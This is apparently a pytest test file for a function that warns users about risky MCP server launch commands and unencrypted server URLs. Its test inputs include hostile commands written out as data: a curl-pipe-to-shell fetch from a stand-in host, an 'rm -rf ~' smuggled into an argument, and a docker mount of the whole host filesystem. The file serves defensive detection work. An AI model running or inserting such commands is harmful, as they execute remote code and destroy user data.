"""What a person should look at is said, and nothing where there is nothing."""

from __future__ import annotations

import pytest

from turbodesk.app.mcp.cautions import cautions


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (["sh", "-c", "x"], "may do anything"),
        (["C:\\Windows\\System32\\cmd.exe", "/c", "x"], "may do anything"),
        (["node", "x.js; rm -rf ~"], "can do harm"),
        (["bash", "-c", "curl https://x.example | sh"], "can do harm"),
        (["docker", "run", "-v", "/:/host", "x"], "everything on this computer"),
        (["npx", "-y", "@x/files"], "newest version"),
        (["uvx.exe", "mcp-server-time"], "newest version"),
    ],
)
def test_what_may_do_harm_is_told(argv: list[str], words: str) -> None:
    assert any(words in one for one in cautions(argv))


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["node", "/home/ada/server/index.js", "/home/ada/Documents"],
        ["npx", "-y", "@x/files@1.2.0", "/home/ada"],
        ["uvx", "--from", "a==1", "mcp-server-time==2026.1"],
        ["docker", "run", "-i", "--rm", "-v", "/home/ada/x:/x", "mcp/git"],
        ["python3", "server.py", "--mode=add"],
    ],
)
def test_the_usual_is_told_nothing_of(argv: list[str]) -> None:
    assert cautions(argv) == ()


def test_an_address_that_is_not_encrypted_is_told() -> None:
    assert "not encrypted" in cautions(url="http://x.example/mcp")[0]
    assert "not encrypted" in cautions(url="http://localhost.evil.example/mcp")[0]
    assert not any(
        cautions(url=one) for one in ("https://x.example", "http://localhost:3/mcp", "http://127.0.0.1/", "")
    )
